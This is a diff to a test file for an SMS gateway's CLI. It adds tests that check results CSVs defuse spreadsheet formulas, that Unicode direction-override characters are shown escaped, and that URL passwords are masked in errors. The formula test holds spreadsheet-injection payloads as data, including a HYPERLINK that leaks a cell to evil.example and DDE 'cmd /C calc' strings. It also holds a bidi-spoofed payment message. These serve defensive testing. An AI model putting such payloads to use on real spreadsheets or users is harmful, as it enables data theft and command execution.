@@ -4,6 +4,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import Database from 'better-sqlite3';
+import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCli } from '../helpers/cli.js';
 import { TWILIO_SID, TWILIO_TOKEN } from '../helpers/carriers.js';
@@ -12,6 +14,8 @@ import { waitReady } from '../helpers/process.js';
 import { until } from '../helpers/wait.js';
 
 const dir = () => mkdtempSync(join(tmpdir(), 'switchboard-cli-'));
+/** A password in URLs that nothing may print. */
+const PASSWORD = 'hunter2-s3cret';
 /** A configuration `serve` would accept: Twilio receiving, a database file, an API key. */
 const healthy = (database: string) => ({
   TWILIO_ACCOUNT_SID: TWILIO_SID,
@@ -259,8 +263,9 @@ describe('switchboard against a running gateway', () => {
       const results = readFileSync(join(base, 'campaign.results.csv'), 'utf8').trim().split('\n');
       expect(results[0]).toBe('row,to,message_id,provider,status,error_code,error_message,sent_earlier');
       expect(results).toHaveLength(8);
-      expect(results[1]).toMatch(/^1,\+14155550171,[0-9a-f-]{36},twilio,delivered,,,$/);
-      expect(results[2]).toMatch(/^2,\+14155550172,[0-9a-f-]{36},telnyx,delivered,,,$/);
+      // A cell starting with + is a formula to a spreadsheet: written with a leading '.
+      expect(results[1]).toMatch(/^1,'\+14155550171,[0-9a-f-]{36},twilio,delivered,,,$/);
+      expect(results[2]).toMatch(/^2,'\+14155550172,[0-9a-f-]{36},telnyx,delivered,,,$/);
       expect(results[3]).toMatch(/^3,not-a-number,,,refused,invalid_phone_number,/);
       const fourId = results[4]?.split(',')[2] as string;
       expect((await gw.store.getMessage(fourId))?.body).toBe('four "quoted"');
@@ -363,6 +368,62 @@ describe('switchboard against a running gateway', () => {
     expect(listed.stdout).not.toContain('\u001b');
   });
 
+  it('writes no formula into the results CSV: cells starting with = + - @, tab or CR get a leading quote', async () => {
+    const base = dir();
+    const csv = join(base, 'formulas.csv');
+    const rows = [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '+14155550183',
+    ];
+    writeFileSync(csv, stringify([['to', 'body'], ...rows.map((to) => [to, 'hi'])]));
+    const run = await runCli(['send', '--csv', csv, '--no-wait'], env);
+    expect(run.stdout).toContain('1 accepted, 3 refused.');
+    // Read back as a spreadsheet would split it: every "to" cell is text, none a formula.
+    const results = parse(readFileSync(join(base, 'formulas.results.csv'), 'utf8'), { columns: true }) as {
+      to: string;
+      status: string;
+      error_code: string;
+    }[];
+    expect(results.map((r) => r.to)).toEqual(rows.map((to) => `'${to}`));
+    expect(results.map((r) => r.status)).toEqual(['refused', 'refused', 'refused', 'queued']);
+    for (const cell of results.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('prints bidirectional and zero-width characters of a message escaped', async () => {
+    // U+202E turns what follows around on screen; U+200B and U+FEFF are invisible; U+2066..U+2069 isolate.
+    const body = 'pay \u202e0001$\u202c to \u2066+14155550100\u2069 now\u200b\ufeff\u200e\u061c\u2060';
+    await gw.sim.injectInbound({
+      provider: 'twilio',
+      from: '+14155550198',
+      to: TWILIO_FROM,
+      body,
+      webhookUrl: `${gw.base}/webhooks`,
+    });
+    await until(
+      async () => (await gw.store.listMessages({ from: '+14155550198' }, { limit: 1 })).data.length === 1,
+      5000,
+      'the inbound message',
+    );
+    const escaped =
+      'pay \\u202e0001$\\u202c to \\u2066+14155550100\\u2069 now\\u200b\\ufeff\\u200e\\u061c\\u2060';
+    const id = (await gw.store.listMessages({ from: '+14155550198' }, { limit: 1 })).data[0]?.id as string;
+    const shown = await runCli(['messages', 'show', id], env);
+    expect(shown.stdout).toContain(escaped);
+    const listed = await runCli(['messages', 'list', '--from', '+14155550198'], env);
+    expect(listed.stdout).toContain('pay \\u202e0001$\\u202c to \\u2066+14155550100');
+    for (const out of [shown.stdout, listed.stdout]) {
+      expect(out).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u200b-\u200d\u2060\ufeff]/);
+    }
+    // A column name in a CSV header is printed escaped too.
+    const csv = join(dir(), 'bidi.csv');
+    writeFileSync(csv, 'to,\u202ebody\n+14155550181,hi\n');
+    const refused = await runCli(['send', '--csv', csv], env);
+    expect(refused.stderr).toContain('unknown: \\u202ebody');
+    expect(refused.stderr).not.toContain('\u202e');
+  });
+
   it('refuses a CSV with an unknown column, and explains a missing key or an unreachable gateway', async () => {
     const csv = join(dir(), 'typo.csv');
     writeFileSync(csv, 'to,bdy\n+14155550181,hi\n');
@@ -375,6 +436,51 @@ describe('switchboard against a running gateway', () => {
     const down = await runCli(['messages', 'list', '--url', `http://127.0.0.1:${await freePort()}`], env);
     expect(down.code).toBe(1);
     expect(down.stderr).toMatch(/Cannot reach the gateway at http:\/\/127\.0\.0\.1:\d+ \(ECONNREFUSED\)/);
+    // A gateway URL with a password is refused without printing it.
+    const withPassword = await runCli(
+      ['messages', 'list', '--url', `http://ops:${PASSWORD}@127.0.0.1:1`],
+      env,
+    );
+    expect(withPassword.code).toBe(2);
+    expect(withPassword.stderr).toContain('must not carry a user name or password (http://***@127.0.0.1:1)');
+    expect(withPassword.stderr).not.toContain(PASSWORD);
+  });
+});
+
+describe('configuration errors from the CLI', () => {
+  it('never echo the user name and password of a URL', async () => {
+    const base = dir();
+    const env = {
+      ...healthy(join(base, 'gateway.db')),
+      PUBLIC_BASE_URL: `ftp://admin:${PASSWORD}@sms.example.com`,
+      TWILIO_API_BASE_URL: `ftp://AC:${PASSWORD}@twilio-proxy.internal`,
+      TELNYX_API_BASE_URL: `ftp://KEY:${PASSWORD}@telnyx-proxy.internal/v2`,
+      APP_WEBHOOK_URL: `https://app:${PASSWORD}@app.example.com/sms`,
+      APP_WEBHOOK_SECRET: `whsec_${'A'.repeat(43)}=`,
+    };
+    for (const command of [['serve'], ['keys', 'list']]) {
+      const run = await runCli(command, env);
+      expect(run.code, command.join(' ')).toBe(1);
+      const out = run.stdout + run.stderr;
+      expect(out).toContain('PUBLIC_BASE_URL must be an absolute http(s) URL');
+      expect(out).toContain('"ftp://***@sms.example.com"');
+      expect(out).toContain('"ftp://***@twilio-proxy.internal"');
+      expect(out).toContain('"ftp://***@telnyx-proxy.internal/v2"');
+      expect(out).toContain('APP_WEBHOOK_URL must not carry a user name or password');
+      expect(out).not.toContain(PASSWORD);
+    }
+  });
+
+  it('refuse a DATABASE_URL with an unsupported scheme by name, never as a file', async () => {
+    const env = { ...healthy('unused'), DATABASE_URL: `postgres://switchboard:${PASSWORD}@db.internal/sb` };
+    for (const command of [['serve'], ['keys', 'list']]) {
+      const run = await runCli(command, env);
+      expect(run.code, command.join(' ')).toBe(1);
+      expect(run.stderr).toContain('DATABASE_URL is a postgres:// URL (postgres://***@db.internal/sb)');
+      expect(run.stderr).not.toContain(PASSWORD);
+    }
+    // Nothing was created where SQLite would have taken the URL for a path (relative to the working directory).
+    expect(existsSync('postgres:')).toBe(false);
   });
 });
 
